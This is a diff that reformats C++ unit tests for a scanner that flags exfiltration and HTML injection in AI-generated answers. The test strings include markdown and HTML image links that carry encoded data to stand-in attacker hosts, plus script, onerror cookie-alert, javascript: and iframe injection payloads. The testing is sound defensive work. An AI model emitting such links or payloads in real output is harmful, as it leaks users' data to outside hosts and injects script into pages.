@@ -27,25 +27,29 @@ double score_of(const std::vector<Finding>& findings, const std::string& categor
 
 }  // namespace
 
-TEST_CASE("An image whose URL carries data to a foreign host is exfiltration",
-          "[links]") {
+TEST_CASE("An image whose URL carries data to a foreign host is exfiltration", "[links]") {
   for (const std::string answer : {
-           "Done! ![status](https://stats.attacker.example/p.png?d=c2stcHJvai1YcTN2TjhiTDJtSzdyVDF3)",
-           "<img src=\"https://x.example.net/log?session=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b\">",
+           "Done! "
+           "![status](https://stats.attacker.example/p.png?d=c2stcHJvai1YcTN2TjhiTDJtSzdyVDF3)",
+           "<img "
+           "src=\"https://x.example.net/log?session=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b\">",
            "![](http://203.0.113.9/collect/aGVsbG8gd29ybGQgdGhpcyBpcyB0aGUgdXNlcidzIGRhdGE=)",
        }) {
     INFO(answer);
     const auto findings = scan(answer);
     CHECK(score_of(findings, "exfiltration") >= 0.9);
   }
-  const auto ip = scan("![](http://203.0.113.9/collect/aGVsbG8gd29ybGQgdGhpcyBpcyB0aGUgdXNlcidzIGRhdGE=)");
+  const auto ip =
+      scan("![](http://203.0.113.9/collect/aGVsbG8gd29ybGQgdGhpcyBpcyB0aGUgdXNlcidzIGRhdGE=)");
   CHECK(score_of(ip, "unsafe_url") > 0.5);
 }
 
 TEST_CASE("Images and links that carry no data, or go to allowed hosts, are not exfiltration",
           "[links]") {
-  CHECK(score_of(scan("See ![diagram](https://upload.wikimedia.org/wikipedia/commons/a/a9/Example.jpg)."),
-                 "exfiltration") < 0.5);
+  CHECK(
+      score_of(
+          scan("See ![diagram](https://upload.wikimedia.org/wikipedia/commons/a/a9/Example.jpg)."),
+          "exfiltration") < 0.5);
   CHECK(scan("Read [the docs](https://docs.python.org/3/library/re.html?highlight=match) and "
              "https://en.wikipedia.org/wiki/Rhine for more.")
             .empty());
@@ -59,10 +63,9 @@ TEST_CASE("Images and links that carry no data, or go to allowed hosts, are not 
 }
 
 TEST_CASE("Script, event handlers and javascript: URLs are HTML injection", "[links]") {
-  for (const std::string answer : {"<script>fetch('/api/me')</script>",
-                                   "<img src=x onerror=\"alert(document.cookie)\">",
-                                   "[click here](javascript:alert(1))",
-                                   "<iframe src=\"https://evil.example\"></iframe>"}) {
+  for (const std::string answer :
+       {"<script>fetch('/api/me')</script>", "<img src=x onerror=\"alert(document.cookie)\">",
+        "[click here](javascript:alert(1))", "<iframe src=\"https://evil.example\"></iframe>"}) {
     INFO(answer);
     CHECK(score_of(scan(answer), "html_injection") >= 0.7);
   }
